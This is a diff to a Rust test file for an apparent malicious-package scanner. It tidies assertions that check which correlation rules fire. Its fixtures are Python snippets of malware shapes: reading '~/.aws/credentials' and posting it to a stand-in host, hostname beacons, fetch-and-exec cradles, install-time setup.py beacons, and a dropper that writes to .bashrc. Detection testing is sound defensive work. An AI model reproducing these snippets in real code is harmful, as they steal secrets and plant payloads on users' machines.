@@ -17,6 +17,17 @@ fn rules_for_file(path: &str, source: &str) -> Vec<String> {
         .collect()
 }
 
+fn assert_has(rules: &[String], id: &str) {
+    assert!(rules.iter().any(|r| r == id), "no {id} in {rules:?}");
+}
+
+fn assert_lacks(rules: &[String], id: &str) {
+    assert!(
+        !rules.iter().any(|r| r == id),
+        "unexpected {id} in {rules:?}"
+    );
+}
+
 /// The findings of a package made of one file.
 fn analyse_file(path: &str, source: &str) -> Vec<Finding> {
     let engine = Engine::new(ScanOptions::default()).unwrap();
@@ -38,20 +49,14 @@ fn a_call_at_module_level_counts_after_the_import_that_names_it() {
     // The shape of a real recon package: `from urllib import request`, then a
     // module-level request.
     let rules = rules_for("from urllib import request\nk = request.urlopen(r)\n");
-    assert!(
-        rules.iter().any(|r| r == "correlate/import-time-network"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/import-time-network");
 }
 
 #[test]
 fn the_same_call_inside_a_function_is_not_module_level() {
     let rules =
         rules_for("from urllib import request\ndef fetch(r):\n    return request.urlopen(r)\n");
-    assert!(
-        !rules.iter().any(|r| r == "correlate/import-time-network"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/import-time-network");
 }
 
 #[test]
@@ -64,10 +69,7 @@ fn a_dropper_writing_with_a_mode_keyword_is_a_dropper() {
                   with open(path, mode='w', encoding='utf-8') as f:\n        f.write(script)\n    \
                   system(f'start {path}')\n";
     let rules = rules_for(source);
-    assert!(
-        rules.iter().any(|r| r == "correlate/download-write-run"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/download-write-run");
 }
 
 #[test]
@@ -110,22 +112,12 @@ fn fetching_and_executing_in_one_function_is_a_download_cradle() {
     let source = "import urllib.request\ndef main():\n    response = urllib.request.urlopen(url)\n    \
                   code = response.read().decode()\n    exec(compile(code, path, 'exec'), {})\n";
     let rules = rules_for(source);
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/function-fetch-then-execute"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/function-fetch-then-execute");
     // The same two capabilities in different functions are not the same code path.
     let apart = "import urllib.request\ndef get():\n    return urllib.request.urlopen(url).read()\n\
                  def run(code):\n    exec(code)\n";
     let rules = rules_for(apart);
-    assert!(
-        !rules
-            .iter()
-            .any(|r| r == "correlate/function-fetch-then-execute"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/function-fetch-then-execute");
 }
 
 fn findings_for(source: &str) -> Vec<(String, Option<u32>)> {
@@ -167,10 +159,7 @@ fn credentials_and_host_data_correlate_only_in_one_python_scope() {
                     return platform.node(), rc\n\
                     def upload(u, d):\n    return requests.post(u, data=d)\n";
     let rules: Vec<String> = findings_for(together).into_iter().map(|f| f.0).collect();
-    assert!(
-        rules.iter().any(|r| r == "correlate/secrets-and-network"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/secrets-and-network");
 }
 
 #[test]
@@ -180,12 +169,7 @@ fn reading_credentials_and_sending_in_one_function_is_exfiltration() {
                   data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
                   requests.post('https://collector.example/x', data=data)\n";
     let rules: Vec<String> = findings_for(source).into_iter().map(|f| f.0).collect();
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/function-secrets-to-network"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/function-secrets-to-network");
 }
 
 #[test]
@@ -195,22 +179,11 @@ fn a_function_called_at_module_level_runs_on_import_but_not_under_a_main_guard()
                 requests.get('https://collector.example/p', params={'h': socket.gethostname()})\n";
     let called = format!("{body}ping()\n");
     let rules: Vec<String> = findings_for(&called).into_iter().map(|f| f.0).collect();
-    assert!(
-        rules.iter().any(|r| r == "correlate/host-data-and-network"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/host-data-and-network");
     let guarded = format!("{body}if __name__ == '__main__':\n    ping()\n");
     let rules: Vec<String> = findings_for(&guarded).into_iter().map(|f| f.0).collect();
-    assert!(
-        !rules.iter().any(|r| r == "correlate/host-data-and-network"),
-        "{rules:?}"
-    );
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/function-host-data-to-network"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/host-data-and-network");
+    assert_has(&rules, "correlate/function-host-data-to-network");
 }
 
 #[test]
@@ -220,16 +193,10 @@ fn a_fixed_host_called_on_import_is_a_beacon_and_a_parameter_is_not() {
     let beacon =
         "import socket\ndef _check():\n    socket.gethostbyname('pkg.collector.test')\n_check()\n";
     let rules = rules_for(beacon);
-    assert!(
-        rules.iter().any(|r| r == "correlate/import-time-beacon"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/import-time-beacon");
     let library = "import requests\nSESSION = requests.Session()\nr = requests.get(BASE_URL)\n";
     let rules = rules_for(library);
-    assert!(
-        !rules.iter().any(|r| r == "correlate/import-time-beacon"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/import-time-beacon");
 }
 
 #[test]
@@ -238,20 +205,10 @@ fn a_background_process_started_on_import_is_a_loader_but_not_inside_a_function(
     // `__init__.py`, imports the payload from another package.
     let loader = "import subprocess\ntry:\n    p = subprocess.Popen([\"python3\", \"-c\", \"from helper import run\"], close_fds=True)\nexcept:\n    pass\n";
     let rules = rules_for(loader);
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/import-time-background-process"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/import-time-background-process");
     let tool = "import subprocess\ndef check():\n    return subprocess.run([\"python3\", \"-c\", \"import sys\"])\n";
     let rules = rules_for(tool);
-    assert!(
-        !rules
-            .iter()
-            .any(|r| r == "correlate/import-time-background-process"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/import-time-background-process");
 }
 
 #[test]
@@ -262,24 +219,14 @@ fn a_function_that_runs_what_it_fetched_from_a_fixed_host_is_a_dropper() {
                    r = requests.get(file_url)\n    with open(p, \"wb\") as f:\n        f.write(r.content)\n    \
                    subprocess.run([str(p)], check=True)\n";
     let rules = rules_for(dropper);
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/function-runs-program-from-fixed-host"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/function-runs-program-from-fixed-host");
     // An updater that fetches what it is told to keeps the weaker finding only.
     let updater = dropper.replace(
         "file_url = \"https://cdn.dropper.test/download\"",
         "file_url = url",
     );
     let rules = rules_for(&updater);
-    assert!(
-        !rules
-            .iter()
-            .any(|r| r == "correlate/function-runs-program-from-fixed-host"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/function-runs-program-from-fixed-host");
 }
 
 #[test]
@@ -287,16 +234,10 @@ fn setup_py_calling_a_fixed_host_is_an_install_time_beacon() {
     // The shape of a real probe (huzzleup): a request after setup() to a fixed URL.
     let probe = "from setuptools import setup\nsetup(name='p')\nimport requests\nr = requests.get('https://probe.collector.test/get', timeout=10)\n";
     let rules = rules_for_file("p-0.1/setup.py", probe);
-    assert!(
-        rules.iter().any(|r| r == "correlate/install-time-beacon"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/install-time-beacon");
     let configured = probe.replace("'https://probe.collector.test/get'", "os.environ['MIRROR']");
     let rules = rules_for_file("p-0.1/setup.py", &configured);
-    assert!(
-        !rules.iter().any(|r| r == "correlate/install-time-beacon"),
-        "{rules:?}"
-    );
+    assert_lacks(&rules, "correlate/install-time-beacon");
 }
 
 #[test]
@@ -324,10 +265,5 @@ fn a_function_that_sets_what_it_fetched_to_start_at_login_is_a_dropper() {
     let source = "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    \
                   d.write(response.read())\n    brc = open('.bashrc', 'a')\n    brc.write('~/.drv &')\n";
     let rules = rules_for(source);
-    assert!(
-        rules
-            .iter()
-            .any(|r| r == "correlate/function-download-write-run"),
-        "{rules:?}"
-    );
+    assert_has(&rules, "correlate/function-download-write-run");
 }
